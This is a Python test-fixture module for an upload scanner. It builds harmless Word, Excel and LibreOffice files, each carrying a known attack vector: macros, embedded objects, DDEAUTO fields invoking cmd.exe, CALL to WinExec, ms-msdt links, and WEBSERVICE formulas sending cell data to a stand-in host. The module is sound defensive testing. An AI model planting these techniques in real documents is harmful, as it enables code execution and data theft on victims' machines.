"""Office files that are well made and do something: macros, objects, links, fields, formulas, scripts.

Harmless: a macro is a file of the right name with a marker in it; an address is one that does not exist.
"""

from __future__ import annotations

from collections.abc import Callable
from typing import Final

from cms.instruments.uploads import Reason as R  # noqa: N817 - a table of one hundred rows

from .hostile_archives import MARKER, OLE, Hostile
from .office_files import OFFICE, Parts, cell, docx_parts, listed, odt_parts, relation, relations, xlsx_parts, zip_of

FAR: Final = "http://a.example/x"
SHARE: Final = "file://a.example/share/x.dotm"


def _docx(body: str = "<w:p/>", *, more: Parts | None = None) -> Callable[[], bytes]:
    return lambda: zip_of(docx_parts(body) | (more or {}))


def _linked(kind: str, target: str, *, external: bool = False) -> Callable[[], bytes]:
    """Return a maker of a DOCX with one relationship of its document."""
    return lambda: zip_of(docx_parts(links=(relation(1, kind, target, external=external),)))


def _typed(part: str, kind: str, data: bytes = MARKER) -> Callable[[], bytes]:
    """Return a maker of a DOCX with a part of some content type."""
    row = f'<Override PartName="/{part}" ContentType="{kind}"/>'
    return lambda: zip_of(docx_parts(types=(row,)) | {part: data})


def _main(kind: str) -> Callable[[], bytes]:
    """Return a maker of a DOCX whose main part is of another type."""
    plain = docx_parts()["[Content_Types].xml"]
    new = plain.replace(f"{OFFICE}.wordprocessingml.document.main+xml".encode(), kind.encode())
    return _docx(more={"[Content_Types].xml": new})


def _field(*pieces: str) -> Callable[[], bytes]:
    """Return a maker of a DOCX with a field whose instruction is in several runs."""
    runs = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces)
    return _docx(f"<w:p>{_char('begin')}{runs}{_char('separate')}{_char('end')}</w:p>")


def _char(kind: str) -> str:
    return f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>'


def _sheet(rows: str = "", book: str = "") -> Callable[[], bytes]:
    return lambda: zip_of(xlsx_parts(rows, book=book))


def _book_with(part: str, kind: str = "", data: bytes = b"<a/>", link: str = "") -> Callable[[], bytes]:
    types = (f'<Override PartName="/{part}" ContentType="{kind}"/>',) if kind else ()
    links = (relation(9, link, part.removeprefix("xl/")),) if link else ()
    return lambda: zip_of(xlsx_parts(types=types, links=links) | {part: data})


def _odt(
    body: str = "", *, meta: str = "", part: str = "", kind: str = "text/xml", data: bytes = b"<a/>"
) -> Callable[[], bytes]:
    line, more = (listed(part, kind), {part: data}) if part else ("", {})
    return lambda: zip_of(odt_parts(body, meta=meta, manifest=line, more=more))


_NESTED: Final = (
    f"<w:p>{_char('begin')}{_char('begin')}<w:r><w:instrText>= 1</w:instrText></w:r>{_char('separate')}"
    f"<w:r><w:t>DDEAUTO</w:t></w:r>{_char('end')}{_char('end')}</w:p>"
)
_MACRO_MAIN: Final = "application/vnd.ms-word.document.macroEnabled.main+xml"
_BOOK_MACRO: Final = "application/vnd.ms-excel.macrosheet+xml"
_SVG: Final = b'<svg xmlns="http://www.w3.org/2000/svg">%s</svg>'

WORD: Final = [
    Hostile("macro of Word", "a.docx", _typed("word/vbaProject.bin", "application/vnd.ms-office.vbaProject"), R.MACRO, "vbaProject"),
    Hostile("macro without a type", "a.docx", _docx(more={"word/vbaProject.bin": MARKER}), R.MACRO, "vbaProject"),
    Hostile("docm with another name", "a.docx", _main(_MACRO_MAIN), R.MACRO, "macroEnabled"),
    Hostile("template of Word", "a.docx", _main(f"{OFFICE}.wordprocessingml.template.main+xml"), R.WRONG_TYPE, "template"),
    Hostile("macro in an input field", "a.docx", _docx('<w:entryMacro w:val="Buka"/>'), R.MACRO, "entryMacro"),
    Hostile("buttons with callbacks", "a.docx", _docx(more={"customUI/customUI.xml": b"<customUI/>"}), R.MACRO, "customUI"),
    Hostile("object by its name", "a.docx", _docx(more={"word/embeddings/oleObject1.bin": OLE}), R.EMBEDDED, "embeddings"),
    Hostile("object under another name", "a.docx", _docx(more={"word/media/a.png": OLE + MARKER}), R.NESTED, "OLE"),
    Hostile("object by its element", "a.docx", _docx('<w:object><o:OLEObject ProgID="Package"/></w:object>'), R.EMBEDDED, "OLEObject"),
    Hostile("object by its relation", "a.docx", _linked("oleObject", "media/a.png"), R.EMBEDDED, "document.xml.rels"),
    Hostile("workbook inside", "a.docx", _linked("package", "media/a.png"), R.EMBEDDED),
    Hostile("imported web page", "a.docx", _docx('<w:altChunk r:id="rId1"/>'), R.EMBEDDED, "altChunk"),
    Hostile("control by its part", "a.docx", _docx(more={"word/activeX/activeX1.xml": b"<a/>"}), R.ACTIVE, "activeX"),
    Hostile("control by its relation", "a.docx", _linked("control", "a.xml"), R.ACTIVE),
    Hostile("add-in", "a.docx", _docx(more={"word/webextensions/a.xml": b"<a/>"}), R.ACTIVE, "webextension"),
    Hostile("template from a share", "a.docx", lambda: zip_of(docx_parts() | {"word/_rels/settings.xml.rels": relations(relation(1, "attachedTemplate", SHARE, external=True))}), R.EXTERNAL, "settings.xml.rels"),
    Hostile("picture from the network", "a.docx", _linked("image", FAR, external=True), R.EXTERNAL, FAR),
    Hostile("relation outside without its mark", "a.docx", _linked("image", "http:/a.example/x"), R.EXTERNAL),
    Hostile("relation that climbs out", "a.docx", _linked("image", "media/../../../x"), R.EXTERNAL),
    Hostile("picture of a drawing from the network", "a.docx", _docx(f'<v:shape><v:imagedata src="{FAR}"/></v:shape>'), R.EXTERNAL, FAR),
    Hostile("letter with a data source", "a.docx", _docx("<w:mailMerge/>"), R.EXTERNAL, "mailMerge"),
    Hostile("link to a file", "a.docx", _linked("hyperlink", "file:///C:/Windows/x.exe", external=True), R.LINK, "x.exe"),
    Hostile("link to a share", "a.docx", _linked("hyperlink", "\\\\a.example\\x", external=True), R.LINK),
    Hostile("link that runs", "a.docx", _linked("hyperlink", "javascript:alert(1)", external=True), R.LINK, "javascript"),
    Hostile("link of a drawing that runs", "a.docx", _docx('<v:shape href="ms-msdt:/id"/>'), R.LINK, "ms-msdt"),
    Hostile("dde at once", "a.docx", _field(" DDEAUTO c:\\\\cmd.exe ", "/k penanda "), R.FIELD, "DDEAUTO"),
    Hostile("dde in small pieces", "a.docx", _field(" D", "DE", "AUTO x y "), R.FIELD, "DDEAUTO"),
    Hostile("dde in a simple field", "a.docx", _docx('<w:fldSimple w:instr="dde x y"/>'), R.FIELD, "DDE"),
    Hostile("dde made by another field", "a.docx", _docx(_NESTED), R.FIELD, "bidang lain"),
    Hostile("dde by letters", "a.docx", _field(" QUOTE 68 68 69 "), R.FIELD, "QUOTE"),
    Hostile("dde never closed", "a.docx", _docx(f"{_char('begin')}<w:r><w:instrText>DDE x</w:instrText></w:r>"), R.FIELD),
    Hostile("dde outside of a field", "a.docx", _docx("<w:instrText>DDEAUTO x</w:instrText>"), R.FIELD),
    Hostile("text from the network", "a.docx", _field(f' INCLUDETEXT "{FAR}" '), R.FIELD, "INCLUDETEXT"),
    Hostile("picture field", "a.docx", _field(f' INCLUDEPICTURE "{FAR}" \\d '), R.FIELD, "INCLUDEPICTURE"),
    Hostile("link field to a file", "a.docx", _field(' HYPERLINK \\o "buka" "file:///x" '), R.LINK, "file:///x"),
    Hostile("script in a drawing", "a.docx", _docx(more={"word/media/a.svg": _SVG % b"<script/>"}), R.FOREIGN),
    Hostile("script in a drawing of a known type", "a.docx", _typed("word/media/a.svg", "image/svg+xml", _SVG % b"<script/>"), R.MACRO, "a.svg"),
    Hostile("drawing that reacts", "a.docx", _typed("word/media/a.svg", "image/svg+xml", _SVG % b'<a onload="x()"/>'), R.MACRO),
    Hostile("drawing that loads", "a.docx", _typed("word/media/a.svg", "image/svg+xml", _SVG % b'<image href="http://a.example/x"/>'), R.EXTERNAL),
    Hostile("drawing with a loading style", "a.docx", _typed("word/media/a.svg", "image/svg+xml", _SVG % b"<style>@import 'x'</style>"), R.EXTERNAL),
]  # fmt: skip
EXCEL: Final = [
    Hostile("macro of Excel", "a.xlsx", _book_with("xl/vbaProject.bin", "application/vnd.ms-office.vbaProject", MARKER), R.MACRO),
    Hostile("macro sheet", "a.xlsx", _book_with("xl/macrosheets/sheet1.xml", _BOOK_MACRO), R.MACRO, "macrosheet"),
    Hostile("macro sheet by its relation", "a.xlsx", _book_with("xl/a.xml", link="xlMacrosheet"), R.MACRO),
    Hostile("name that runs", "a.xlsx", _sheet(book='<definedNames><definedName name="_xlnm.Auto_Open">Isian!A1</definedName></definedNames>'), R.MACRO, "Auto_Open"),
    Hostile("name that is a macro", "a.xlsx", _sheet(book='<definedNames><definedName name="a" xlm="1">Isian!A1</definedName></definedNames>'), R.MACRO),
    Hostile("button with a macro", "a.xlsx", _sheet('<sp macro="[0]!Buka"/>'), R.MACRO, "Buka"),
    Hostile("other workbook by its part", "a.xlsx", _book_with("xl/externalLinks/externalLink1.xml"), R.EXTERNAL),
    Hostile("other workbook by its element", "a.xlsx", _sheet(book='<externalReferences><externalReference r:id="rId9"/></externalReferences>'), R.EXTERNAL),
    Hostile("data connection", "a.xlsx", _book_with("xl/connections.xml"), R.EXTERNAL, "connections"),
    Hostile("data query", "a.xlsx", _book_with("xl/queryTables/queryTable1.xml"), R.EXTERNAL),
    Hostile("dde link", "a.xlsx", _sheet('<ddeLink ddeService="cmd" ddeTopic="/c x"/>'), R.EXTERNAL, "ddeLink"),
    Hostile("dde formula", "a.xlsx", _sheet(cell("cmd|'/c penanda'!A0")), R.EXTERNAL, "cmd|"),
    Hostile("dde formula without a path", "a.xlsx", _sheet(cell("a|b!A0")), R.FORMULA, "DDE"),
    Hostile("dde behind a sheet's quote", "a.xlsx", _sheet(cell("'x\"y'!A1&amp;a|b!A0&amp;\"z\"")), R.FORMULA, "DDE"),
    Hostile("asks the network", "a.xlsx", _sheet(cell(f'_xlfn.WEBSERVICE("{FAR}"&amp;A1)')), R.FORMULA, "WEBSERVICE"),
    Hostile("asks the network in small letters", "a.xlsx", _sheet(cell("1+ webservice (A1)")), R.FORMULA, "WEBSERVICE"),
    Hostile("calls a library", "a.xlsx", _sheet(cell('CALL("Kernel32","WinExec","JCJ","x",0)')), R.FORMULA, "CALL"),
    Hostile("registers a library", "a.xlsx", _sheet(cell('REGISTER("x","y")')), R.FORMULA, "REGISTER"),
    Hostile("loads a picture", "a.xlsx", _sheet(cell(f'_xlfn.IMAGE("{FAR}")')), R.FORMULA, "IMAGE"),
    Hostile("live data", "a.xlsx", _sheet(cell('RTD("a",,"b")')), R.FORMULA, "RTD"),
    Hostile("formula in a rule", "a.xlsx", _sheet("<formula1>WEBSERVICE(A1)</formula1>"), R.FORMULA, "WEBSERVICE"),
    Hostile("formula in a name", "a.xlsx", _sheet(book='<definedNames><definedName name="a">EXEC("x")</definedName></definedNames>'), R.FORMULA, "EXEC"),
    Hostile("other workbook in a formula", "a.xlsx", _sheet(cell("[1]Isian!A1")), R.EXTERNAL, "[1]"),
    Hostile("other workbook on a share", "a.xlsx", _sheet(cell("'\\\\a.example\\[x.xlsx]Isian'!A1")), R.EXTERNAL),
    Hostile("link formula to a file", "a.xlsx", _sheet(cell('HYPERLINK("file:///x","buka")')), R.LINK, "file:///x"),
    Hostile("object of Excel", "a.xlsx", _sheet('<oleObjects><oleObject progId="x"/></oleObjects>'), R.EMBEDDED),
]  # fmt: skip
ODF: Final = [
    Hostile("macro of LibreOffice", "a.odt", _odt(part="Basic/Standard/a.xml"), R.MACRO, "Basic/"),
    Hostile("script of LibreOffice", "a.odt", _odt(part="Scripts/python/a.py", kind="", data=MARKER), R.MACRO, "Scripts/"),
    Hostile("macro by its media type", "a.odt", _odt(part="a.xml", kind="application/vnd.sun.star.basic-library"), R.MACRO),
    Hostile("macro on opening", "a.odt", _odt('<script:event-listener xlink:href="vnd.sun.star.script:a"/>'), R.MACRO),
    Hostile("script in the text", "a.odt", _odt("<text:script>x</text:script>"), R.MACRO, "script"),
    Hostile("address of a macro", "a.odt", _odt('<text:p text:name="vnd.sun.star.script:a?language=Basic"/>'), R.MACRO),
    Hostile("link that runs", "a.odt", _odt('<text:a xlink:href="vnd.sun.star.script:a"/>'), R.LINK),
    Hostile("link to a file", "a.odt", _odt('<text:a xlink:href="../../x.exe"/>'), R.LINK, "x.exe"),
    Hostile("picture from the network", "a.odt", _odt(f'<draw:image xlink:href="{FAR}"/>'), R.EXTERNAL, FAR),
    Hostile("picture from a file", "a.odt", _odt('<draw:image xlink:href="../x.png"/>'), R.EXTERNAL, "../x.png"),
    Hostile("picture from a share", "a.odt", _odt('<draw:image xlink:href="//a.example/x.png"/>'), R.EXTERNAL),
    Hostile("section of another file", "a.odt", _odt(f'<text:section-source xlink:href="{FAR}"/>'), R.EXTERNAL),
    Hostile("dde of LibreOffice", "a.odt", _odt('<text:dde-connection-decl office:dde-application="x"/>'), R.EXTERNAL),
    Hostile("frame", "a.odt", _odt(f'<draw:floating-frame xlink:href="{FAR}"/>'), R.EXTERNAL),
    Hostile("template of another place", "a.odt", _odt(meta=f'<meta:template xlink:href="{SHARE}"/>'), R.EXTERNAL, "meta.xml"),
    Hostile("form that sends", "a.odt", _odt(f'<form:form xlink:href="{FAR}"/>'), R.EXTERNAL),
    Hostile("plug-in", "a.odt", _odt("<draw:plugin/>"), R.ACTIVE),
    Hostile("object of ODF", "a.odt", _odt(part="Object 1/content.xml"), R.EMBEDDED, "Object 1"),
    Hostile("object by its element", "a.odt", _odt("<draw:object-ole/>"), R.EMBEDDED),
    Hostile("formula of a table", "a.odt", _odt('<table:table-cell table:formula="ooow:WEBSERVICE(1)"/>'), R.FORMULA),
]  # fmt: skip
